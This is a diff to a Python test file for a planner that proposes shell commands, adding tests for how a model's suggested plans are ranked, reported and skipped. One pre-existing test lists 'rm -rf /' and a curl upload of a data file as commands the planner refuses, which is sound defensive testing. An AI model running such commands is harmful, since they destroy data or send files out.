@@ -14,8 +14,10 @@ from contracts.learning.practice import (
     PractisedAction,
     StartPracticeRequest,
 )
+from contracts.learning.practice_model import PracticePlan, PracticeThoughts
 from domain.learning.practice_commands import AllowedCommands, KnownCommand
-from domain.learning.practice_search import MAX_STEPS, next_idea, problem_of
+from domain.learning.practice_ideas import next_idea
+from domain.learning.practice_search import MAX_STEPS, problem_of
 
 SORTED = {"kind": "file_exists", "path": "top.csv"}
 TAUGHT = KnownCommand(
@@ -155,3 +157,60 @@ def test_no_idea_is_longer_than_what_is_left_of_the_budget() -> None:
 @pytest.mark.parametrize("command", ["rm -rf /", "curl -T sales.csv https://example.org/ -o {output}"])
 def test_what_destroys_or_sends_is_no_idea_even_when_listed(command: str) -> None:
     assert next_idea(request(allowed_commands=[command]), (), (), 40).end is PracticeState.ASKS
+
+
+def thoughts(*plans: tuple[str, ...], note: str = "") -> PracticeThoughts:
+    return PracticeThoughts(
+        model="small-writer", plans=tuple(PracticePlan(commands=plan) for plan in plans), note=note
+    )
+
+
+def test_what_a_model_suggests_comes_before_a_bare_program_and_says_so() -> None:
+    found = next_idea(request(), (), (), 40, thoughts(("sort -t, -k2 -nr sales.csv > top.csv",)))
+    assert commands(found) == ["sort -t, -k2 -nr sales.csv > top.csv"]
+    assert found.idea is not None
+    assert (found.idea.proposed_by, found.idea.proposer_note) == ("model:small-writer", "")
+    assert [step.source for step in found.idea.steps] == [IdeaSource.MODEL]
+
+
+def test_what_was_taught_comes_before_what_a_model_suggests() -> None:
+    found = next_idea(request(), (TAUGHT,), (), 40, thoughts(("sort -u sales.csv > top.csv",)))
+    assert commands(found) == ["sort -t, -k2 -nr sales.csv > top.csv"]
+    assert found.idea is not None
+    assert found.idea.proposed_by == "deterministic"
+    assert found.idea.proposer_note == "Rated above what small-writer suggested."
+
+
+def test_a_model_that_says_what_is_known_anyway_adds_nothing() -> None:
+    found = next_idea(request(), (), (), 40, thoughts(("sort sales.csv > top.csv",)))
+    assert found.idea is not None
+    assert found.idea.proposed_by == "deterministic"
+    assert found.idea.proposer_note == "small-writer suggested nothing else that fits."
+
+
+def test_a_model_that_could_not_help_leaves_the_search_and_its_reason() -> None:
+    found = next_idea(request(), (), (), 40, thoughts(note="small-writer was asked: HTTP 500."))
+    assert commands(found) == ["sort sales.csv > top.csv"]
+    assert found.idea is not None
+    assert found.idea.proposer_note == "small-writer was asked: HTTP 500."
+    nowhere = request(success_conditions=[{"kind": "file_exists", "path": "no/way.csv"}])
+    asks = next_idea(nowhere, (), (), 40, thoughts(note="small-writer was asked: HTTP 500."))
+    assert (asks.end, asks.note) == (
+        PracticeState.ASKS,
+        "Out of ideas. small-writer was asked: HTTP 500.",
+    )
+
+
+def test_a_plan_that_does_not_make_what_is_wanted_is_asked_about() -> None:
+    wanted = [{"kind": "file_exists", "path": "no/way.csv"}]
+    found = next_idea(request(success_conditions=wanted), (), (), 40, thoughts(("sort sales.csv > a.csv",)))
+    assert (found.idea, found.end) == (None, PracticeState.ASKS)
+    assert "sort sales.csv > a.csv" in (found.question or "")
+
+
+def test_a_plan_that_failed_or_is_too_long_is_not_tried() -> None:
+    plan = thoughts(("sort -u sales.csv > top.csv", "sort top.csv > end.csv"))
+    first = next_idea(request(), (), (), 40, plan)
+    assert len(commands(first)) == 2
+    assert commands(next_idea(request(), (), (tried(first, failed=True),), 40, plan)) != commands(first)
+    assert commands(next_idea(request(), (), (), 1, plan)) == ["sort sales.csv > top.csv"]
